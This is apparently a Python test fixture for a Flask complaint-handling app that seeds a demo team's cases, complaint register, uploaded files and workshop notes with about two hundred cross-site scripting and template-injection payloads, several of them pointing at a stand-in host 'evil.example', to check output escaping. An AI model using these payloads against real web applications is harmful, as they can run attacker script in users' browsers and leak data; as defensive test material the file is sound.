"""Two hundred texts that are more than text to some reader, and a team whose every word is one of them."""

import csv
import io
import json
from datetime import timedelta
from itertools import cycle, pairwise
from typing import Any

from flask import Flask

from klagerejsen.access.rules import Scope
from klagerejsen.accounts.models import Team, User
from klagerejsen.codes import EVENT_TYPES, ComplaintKind, Perspective
from klagerejsen.complaints import columns
from klagerejsen.complaints import queries as complaints
from klagerejsen.complaints import services as register
from klagerejsen.complaints.deadlines import CALENDAR
from klagerejsen.complaints.setting import set_term
from klagerejsen.complaints.terms import terms_of
from klagerejsen.database import utcnow
from klagerejsen.extensions import db
from klagerejsen.insights import keeping
from klagerejsen.journeys import queries
from klagerejsen.journeys import services as cases
from klagerejsen.journeys.checking import read_document
from klagerejsen.journeys.history import NOBODY
from klagerejsen.journeys.models import Area, Cause, Journey
from klagerejsen.reflections.models import Reflection
from klagerejsen.workshops import plans, saying, seats
from klagerejsen.workshops import services as workshops
from klagerejsen.workshops.models import Note, Workshop
from tests.conftest import FACILITATOR
from tests.unit.intake import logs_made_up as logs

ELSEWHERE = "evil.example"
ENDS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--><!--", "]]>", "</style></select></svg>", "`>")
BEGINNINGS = (
    "<script>alert(1)</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=//{ELSEWHERE}/i.png>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    f"<form action=//{ELSEWHERE}><button>x</button></form>",
    f"<base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}">',
    f"<div hx-get=//{ELSEWHERE} hx-trigger=load>x</div>",
    "<div data-module=../../../evil>x</div>",
    "<xq-probe autofocus tabindex=0 onfocus=alert(1)>x</xq-probe>",
    f"<style>@import '//{ELSEWHERE}/x.css';*{{background:url(//{ELSEWHERE}/b)}}</style>",
)
OTHERS = (
    "{{7*7}}", "{% for x in [].__class__.__mro__ %}x{% endfor %}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "<?php die();",    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", f"//{ELSEWHERE}/x", f"http://{ELSEWHERE}/x",
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="',
    f'" hx-get="//{ELSEWHERE}" hx-trigger="load', f'" style="background:url(//{ELSEWHERE}/s)', '" data-module="../evil',
    f"[x](javascript:alert(1)) ![x](//{ELSEWHERE}/i.png)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "\\x3cimg src=x onerror=alert(1)\\x3e", "<!--", "<![CDATA[<script>alert(1)</script>]]>", "</html><script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<IMG SRC=x OnErRoR=alert(1)//", "<img/src=x/onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<svg><style><img src=x onerror=alert(1)></style>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "\u2028alert(1)\u2029",
    "\u202e<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "');alert(1);//", '"}]};alert(1);//',
    "</tspan></text>",    "constructor.constructor('alert(1)')()",
)  # fmt: skip
PAYLOADS = tuple(end + beginning for end in ENDS for beginning in BEGINNINGS) + OTHERS
SHORT = tuple(payload for payload in PAYLOADS if len(payload) <= 40)
ALL = " ".join(PAYLOADS)
SIDES = tuple(side.value for side in Perspective)


class Mouth:
    """Says every payload over and over; each mouth begins with another one."""

    born = 0

    def __init__(self) -> None:
        Mouth.born += 7
        self._next = Mouth.born

    def __call__(self) -> str:
        self._next += 1
        return PAYLOADS[self._next % len(PAYLOADS)]


class Mouths:
    """One for each field that asks, so that the fields of a row say different things, and each field everything."""

    def __init__(self) -> None:
        self._mouths: dict[str, Mouth] = {}

    def __getattr__(self, field: str) -> str:
        return self._mouths.setdefault(field, Mouth())()


say = Mouths()


def hostile_case() -> dict[str, Any]:
    """A case with an event for each payload, in which every text is one, the ids included."""
    events = [_event(number, payload) for number, payload in enumerate(PAYLOADS)]
    return {
        "format": "klagerejsen-journey", "version": 1, "id": PAYLOADS[0], "title": say.title, "subtitle": say.subtitle,
        "summary": ALL[:4000], "area": say.area, "legal_basis": PAYLOADS[:40], "consulted": SIDES, "events": events,
        "actors": [
            {"id": payload, "label": say.label, "unit": say.unit, "ref": say.ref, "perspective": side}
            for payload, side in zip(PAYLOADS, cycle(SIDES), strict=False)
        ],
        "findings": [
            {"type": "silence", "status": "dismissed", "reason": say.reason, "note": say.finding, "severity": 2,
             "events": [first["id"], second["id"]], "certainty": "certain"}
            for first, second in list(pairwise(events))[:60]
        ],
        "causes": [{"code": "KOO1", "note": say.cause, "primary": True, "events": [PAYLOADS[0]]}],
        **learned(" ".join(PAYLOADS[:60])),
    }  # fmt: skip


def learned(text: str) -> dict[str, Any]:
    """What was learned, every field of it."""
    recur = {"answer": "yes", "likelihood": "high", "text": text}
    fields = dict.fromkeys(("happened", "wished", "why", "prevent", "summary"), text)
    return {"learning": {**fields, "recur": recur}, "actions": [{"title": text, "owner": text, "measure": text}]}


def _event(number: int, payload: str) -> dict[str, Any]:
    year, day = divmod(number, 360)
    date = f"{2022 + year}-{day // 30 + 1:02d}-{day % 28 + 1:02d}"
    return {
        "id": payload, "date": date, "type": EVENT_TYPES[number % len(EVENT_TYPES)], "title": say.event,
        "description": say.description, "topic": say.topic, "artefact": say.artefact, "source": say.source,
        "from": [PAYLOADS[number % 30]], "to": [PAYLOADS[(number + 1) % 30]], "expects_reply": number % 5 == 0,
        "deadline": {"date": date, "basis": say.basis}, "claims": [{"about": say.about, "value": say.value}],
        "causes": [{"code": "KOO1", "text": say.event_cause}],
        "perspectives": {side: {"known": "known", "score": number % 5 - 2, "text": say.view} for side in SIDES},
    }  # fmt: skip


def hostile_files() -> dict[str, bytes]:
    """A table, an event log and a text, and every word in them one of the payloads."""
    table = io.StringIO()
    rows = csv.writer(table, delimiter=";")
    rows.writerow(["Dato", "Titel", "Afsender", "Kanal", *PAYLOADS[:8]])
    rows.writerows(
        ["2024-03-12", payload, PAYLOADS[number % 30], *[payload] * 9] for number, payload in enumerate(PAYLOADS)
    )
    log = logs.written(
        [
            logs.case(payload, logs.event(payload, "2024-03-12T09:30:00+01:00", org_resource=payload))
            for payload in PAYLOADS[:20]
        ]
    )
    register = io.StringIO()
    rows = csv.writer(register, delimiter=";")
    rows.writerow(["Modtaget", "Område", "Klagetype", "Tema", "Enhed", *PAYLOADS[:8]])
    rows.writerows(["2024-03-12", payload, payload, payload, *[payload] * 9] for payload in PAYLOADS[:60])
    text = "\n".join(f"12.03.2024 {payload}" for payload in PAYLOADS)
    return {
        f"{PAYLOADS[5]}.csv": table.getvalue().encode(),
        f"{PAYLOADS[2]}.xes": log,
        f"{PAYLOADS[3]}.txt": text.encode(),
        f"{PAYLOADS[4]}.klager.csv": register.getvalue().encode(),
    }


def furnish(app: Flask) -> tuple[int, int]:
    """Put the case into the demo team, beside one for each payload, and a workshop on it; return both numbers."""
    with app.test_request_context():
        team = db.session.scalars(db.select(Team).where(Team.slug == "demo")).one()
        _rename(team)
        document = read_document(json.dumps(hostile_case()).encode())
        journey_id = cases.import_document(team.id, document, NOBODY).id
        for payload in PAYLOADS:
            texts = dict.fromkeys(("title", "subtitle", "summary", "area"), payload)
            small = {"id": f"lille {payload}", "legal_basis": [payload], "actors": [], "events": []}
            cases.import_document(team.id, {**small, **texts, **learned(payload)}, NOBODY)
        journey = queries.whole_journey(Scope(team.id, journey_id))
        for event in journey.events[:40]:
            piece = cases.snapshot(event) or {}
            cases.edit_event(event, {**piece, "title": say.event}, event.version, NOBODY)
        db.session.add(
            Reflection(
                team_id=team.id, journey_id=journey_id, complaint_id=_complain(team.id, journey_id),
                title=say.title[:200], area=say.area, about=ALL[:200], shared_at=utcnow(), causes=[say.cause],
                **learned(ALL[:2000])
            )
        )  # fmt: skip
        room = workshops.start(journey, NOBODY)
        _speak(room, journey)
        db.session.commit()
        team_id, room_id = team.id, room.id
    keeping.bring_up(app, team_id)  # so many are not counted while a page waits
    return journey_id, room_id


def _rename(team: Team) -> None:
    team.name = say.team
    db.session.scalars(db.select(User).where(User.email == FACILITATOR)).one().name = say.user
    for kind in (Cause, Area):
        for row in db.session.scalars(db.select(kind).where(kind.team_id == team.id)):
            row.label_da, row.label_en = say.danish, say.english
    for _ in range(5):
        plans.keep(team.id, say.plan, next(iter(plans.BUILT_IN.values()))[1])


def _complain(team_id: int, journey_id: int) -> int:
    """Register a complaint for each payload, every text one of them, and correct it: its history tells both."""
    terms, received = terms_of(team_id), utcnow().date() - timedelta(400)
    stated = {"kind": ComplaintKind.MERITS, "area": "boern", "received_on": received, "journey_id": journey_id}
    for _payload in PAYLOADS:
        row = register.register(team_id, stated | _complaint_texts(), None, terms)
        register.change(row, _complaint_texts(), register.EDITED, None)
    register.set_causes(complaints.complaint(Scope(team_id, None), row.id), ["KOO1"], None)
    basis = {"days": 3, "unit": CALENDAR, "basis": ALL[:200], "since": received}
    set_term(team_id, {"area": None, "code": "acknowledge", **basis}, None)
    return row.id


def _complaint_texts() -> dict[str, Any]:
    texts = {name: getattr(say, f"complaint_{name}")[:most] for name, most in columns.TEXTS.items()}
    return texts | {"other_units": [say.other_unit, say.other_unit]}


def _speak(room: Workshop, journey: Journey) -> None:
    room.private_notes = ALL
    short = cycle(SHORT)
    people = [seats.join(room, side) for _ in range(8) for side in Perspective]
    for number, seat in enumerate(people):
        seat.signature, seat.proxy_label = next(short), next(short) if number > 12 else None
    for number, event in enumerate(journey.events):
        seat = people[number % len(people)]
        saying.answer(room, seat, event, {"known": "known", "score": -1, "text": say.answer})
        note = Note(workshop_id=room.id, participant_id=seat.id, perspective=seat.perspective, key=f"k{number}")
        note.text, note.event_id = say.note, event.id if number % 2 else None
        note.released, note.held = number % 3 > 0, "name" if number % 9 == 0 else None
        db.session.add(note)
    workshops.reveal(room, NOBODY)
    workshops.focus(room, journey.events[3], NOBODY)
